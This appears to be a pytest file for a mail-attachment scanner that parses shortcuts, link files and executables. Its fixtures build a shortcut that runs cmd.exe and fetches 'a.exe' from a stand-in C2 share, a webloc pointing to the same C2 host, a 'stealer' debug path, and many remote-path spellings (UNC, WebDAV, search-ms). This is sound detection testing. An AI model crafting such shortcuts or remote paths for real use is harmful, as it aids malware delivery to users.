"""Shortcuts, link files and programs in their parts, and what honest files of these kinds have (catalogue B50, B51)."""

from __future__ import annotations

import plistlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sekisho_core.vocabulary import Origin, Reading
from sekisho_inspection import link_files, shortcut
from sekisho_inspection.notes import Item, Notes
from sekisho_inspection.settings import InspectionSettings
from shortcut_maker import environment_block, network_info, program, tracker_block
from shortcut_maker import shortcut as made

Read = Callable[..., Reading]
Attach = Callable[..., bytes]
CMD = "C:\\Windows\\System32\\cmd.exe"
WHOLE = made(
    CMD,
    info=network_info("\\\\c2.malware.example\\share", "a.exe"),
    blocks=environment_block("%comspec%") + tracker_block("desktop-0a1b2c3"),
    behind=b"{\\rtf1 a decoy}",
    description="説明",
    arguments="/c calc",
    icon="%SystemRoot%\\System32\\imageres.dll",
)


def details(reading: Reading, kind: str) -> list[str]:
    """What the findings of a kind tell."""
    return [item.detail for item in reading.findings if item.kind == kind]


def test_all_of_a_shortcut(read: Read, attach: Attach) -> None:
    """B50: target, arguments, server, machine and what is appended are told, the latter with its offset."""
    reading = read(attach("x", ("a.lnk", WHOLE)))
    values = {(item.path, item.value) for item in reading.observables}
    assert ("process:command_line", f"{CMD} /c calc") in values
    assert ("x-sekisho-shortcut:machine_id", "desktop-0a1b2c3") in values
    assert ("domain-name:value", "c2.malware.example") in values
    assert details(reading, "link-remote") == ["\\\\c2.malware.example\\share\\a.exe"]
    assert details(reading, "appended-data") == [f"offset {len(WHOLE) - 15}: 15 bytes behind the end of the shortcut"]
    assert [part.type for part in reading.parts if part.id.startswith("2.")] == ["application/rtf"]


def test_names_in_japanese(read: Read, attach: Attach) -> None:
    """The long names of an item list are read where the short ones hold nothing."""
    reading = read(attach("x", ("a.lnk", made("C:\\資料\\報告書.exe"))))
    assert details(reading, "shortcut") == ["C:\\資料\\報告書.exe"]


@pytest.mark.parametrize("size", range(76, len(WHOLE) - 20, 97))
def test_shortcuts_that_are_cut_off(size: int, read: Read, attach: Attach) -> None:
    """What is left of a shortcut is read, and that it ends early is a gap."""
    reading = read(attach("x", ("a.lnk", WHOLE[:size])))
    assert details(reading, "shortcut")
    assert "malformed" in {gap.reason for gap in reading.incomplete} or size == 76


@given(st.binary(max_size=300), st.integers(0, 255))
def test_any_bytes_as_a_shortcut(limits: InspectionSettings, data: bytes, flags: int) -> None:
    """B52: whatever stands behind the header, the reader comes to an end."""
    notes = Notes(limits)
    head = made()[:20] + bytes([flags]) + made()[21:76]
    shortcut.read_shortcut(Item("1", head + data, (), "", Origin(), 1), notes)
    assert notes.findings


@pytest.mark.parametrize(
    "value",
    [
        "https://www.example.jp/python/docs/",
        "https://www.example.jp/cmd.exe?a",
        "file:///C:/docs/a.pdf",
        "mailto:a@example.jp",
    ],
)
def test_honest_addresses(value: str, read: Read, attach: Attach) -> None:
    """B51: a link file with an address starts no program and leads to nobody's computer, whatever words are in it."""
    reading = read(attach("x", ("a.url", f"[InternetShortcut]\r\nURL={value}\r\n".encode())))
    assert {item.kind for item in reading.findings} == {"link-file"}


@pytest.mark.parametrize(
    ("value", "remote"),
    [
        ("\\\\192.0.2.1\\a", True), ("//192.0.2.1/a", True), ("file://host.example/a", True),
        ("file:\\\\host\\a", True),
        ("file:////host/a", True), ("\\\\host@SSL\\DavWWWRoot\\a", True), ("smb://host/a", True),
        ("\\\\host@SSL@443\\DavWWWRoot\\a", True), ("file:%2f%2fhost/a", True), ("file:///System/a.app", False),
        ("search-ms:query=a&crumb=location:\\\\host\\a", True), ("file:///C:/a", False), ("C:\\a", False),
        ("https://host.example/a", False), ("\\\\localhost\\c$\\a", False),
    ],
)  # fmt: skip
def test_remote_places(value: str, remote: bool) -> None:
    """Places on other computers are told from those on one's own, in all spellings."""
    assert link_files.is_remote(value) is remote


def test_property_lists(read: Read, attach: Attach) -> None:
    """Both forms of property lists are read; one that is broken is a gap."""
    for form in (plistlib.FMT_XML, plistlib.FMT_BINARY):
        content = plistlib.dumps({"URL": "http://c2.malware.example/"}, fmt=form)
        assert details(read(attach("x", ("a.webloc", content))), "link-file") == ["URL: http://c2.malware.example/"]
    assert read(attach("x", ("a.webloc", b"bplist00" + b"\xff" * 40))).incomplete


def test_program_in_its_parts(read: Read, attach: Attach) -> None:
    """B50: imports and debug path are values to share; the tool that bundled a program is told by its marks."""
    content = program(b"AU3!EA06" + bytes(50), debug_path="C:\\src\\stealer\\a.pdb")
    reading = read(attach("x", ("a.exe", content)))
    values = {item.path: item.value for item in reading.observables}
    assert values["x-sekisho-executable:debug_path"] == "C:\\src\\stealer\\a.pdb"
    # The MD5 of "kernel32.exitprocess".
    assert values["file:extensions.'windows-pebinary-ext'.imphash"] == "f9ade0aa18f660a34a4fa23392e21838"
    assert "AutoIt script" in details(reading, "executable-details")[0]
    assert "58 bytes behind its end, at offset 1024" in details(reading, "executable-details")[0]


@pytest.mark.parametrize(
    ("name", "declared", "content", "found"),
    [
        ("a.jpg", "image/png", b"GIF89a" + bytes(20), False),
        ("a.pdf", "application/octet-stream", b"%PDF-1.4\n", False),
        ("a.txt", "text/plain", b"MZ" + bytes(99), True),
        ("a.png", "image/png", b"<html><body>x</body></html>", True),
        ("a.dat", "image/png", b"<html><body>x</body></html>", True),
        ("a.dat", "application/pdf", b"PK\x05\x06" + bytes(18), False),
        ("a.doc", "application/msword", b"{\\rtf1 x}", False),
        ("a.rar", "application/octet-stream", b"Rar!\x1a\x07\0" + bytes(20), False),
        ("a.csv", "text/csv", b"a,b\n1,2\n" * 9, False),
    ],
)
def test_mismatches(name: str, declared: str, content: bytes, found: bool, read: Read) -> None:
    """B19: another kind of file than it says is told; pictures of another format and senders' guesses are not."""
    head = f"Content-Type: {declared}; name={name}\r\nContent-Transfer-Encoding: binary\r\n\r\n"
    assert bool(details(read(head.encode() + content), "type-mismatch")) is found


@pytest.mark.parametrize(
    "content",
    [
        b"<a>" * 100_000,
        b"<a " + b"".join(b'a%d="1" ' % number for number in range(30_000)) + b"/>",
        b"<a",
        b"<a>\xff\xfe",
    ],
    ids=["depth", "attributes", "cut off", "bytes"],
)
def test_hostile_documents_end(content: bytes, read: Read, attach: Attach) -> None:
    """B21: XML that a parser cannot take is a gap, found in time."""
    reading = read(attach("x", ("a.msc", content)))
    assert details(reading, "executable")
    assert bool(reading.incomplete) is (len(content) > 10)
